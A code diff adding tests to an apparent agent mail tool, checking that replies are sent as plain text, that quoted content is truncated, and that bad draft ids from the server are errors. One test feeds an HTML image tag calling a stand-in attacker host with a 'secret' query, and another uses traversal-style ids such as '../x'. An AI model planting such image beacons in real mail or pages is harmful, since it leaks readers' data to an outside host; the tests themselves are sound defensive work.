@@ -12,6 +12,7 @@ from agent_runner.connectors_configured import ConfiguredConnectors, MailServer
 from cli_tools import mail
 from cli_tools.action import Catalogue, LineProposal
 from cli_tools.errors import ActionError, UsageError
+from cli_tools.mail.send import LONGEST_QUOTE
 from policies.capability import Capability
 from tests.cli_tools.answering import Opened, Request, Served, opened, served
 from tests.cli_tools.door import Door, open_door
@@ -277,8 +278,41 @@ async def test_a_reply_goes_to_whom_it_names_and_not_to_whom_the_message_chose(
     (sent,) = stand.graph.sent
     assert sent["toRecipients"] == [{"emailAddress": {"address": "anna@example.com"}}]
     assert (sent["ccRecipients"], sent["bccRecipients"]) == ([], [])
-    assert sent["body"]["content"] == "thanks\n> text 1"
+    assert sent["body"] == {"contentType": "Text", "content": "thanks\n\n> text 1"}
     assert (denied.kind, unnamed.kind) == ("denied", "error")
+
+
+async def test_a_reply_is_plain_text_whatever_it_answers(place: Path, authority: Authority) -> None:
+    """The server drafts in HTML; a picture in it would be fetched by whoever reads it."""
+    markup = '<img src="https://evil.example/?q=secret">\nsecond line'
+    taken = message(1, body={"contentType": "html", "content": "<b>bold</b>"})
+    async with standing(place, authority, answering=Graph(messages=[taken])) as stand:
+        seen = await stand.door.line(f"mail reply {ID} --to anna@example.com", markup)
+
+    assert seen.text == "replied to anna@example.com"
+    (sent,) = stand.graph.sent
+    assert sent["body"] == {"contentType": "Text", "content": f"{markup}\n\n> bold"}
+
+
+async def test_a_reply_quotes_no_more_than_a_bound(place: Path, authority: Authority) -> None:
+    taken = message(1, body={"contentType": "text", "content": "x" * 1_000_000})
+    async with standing(place, authority, answering=Graph(messages=[taken])) as stand:
+        seen = await stand.door.line(f"mail reply {ID} --to anna@example.com --text thanks")
+
+    assert seen.text == "replied to anna@example.com"
+    (sent,) = stand.graph.sent
+    assert sent["body"]["content"] == f"thanks\n\n> {'x' * (LONGEST_QUOTE - 2)}\n[…]"
+
+
+@pytest.mark.parametrize("number", ["", "../x", "a/b", "a?b", "\ud800", 5, "a" * 513])
+async def test_a_draft_with_no_usable_id_is_an_error_of_the_server(
+    place: Path, authority: Authority, number: object
+) -> None:
+    async with standing(place, authority, answering=Graph(draft_id=number)) as stand:
+        seen = await stand.door.line(f"mail reply {ID} --to anna@example.com --text thanks")
+
+    assert seen.text == "error (upstream): the mail server made a draft without an id"
+    assert stand.graph.sent == []
 
 
 async def test_a_reply_that_the_server_addresses_otherwise_is_not_sent(
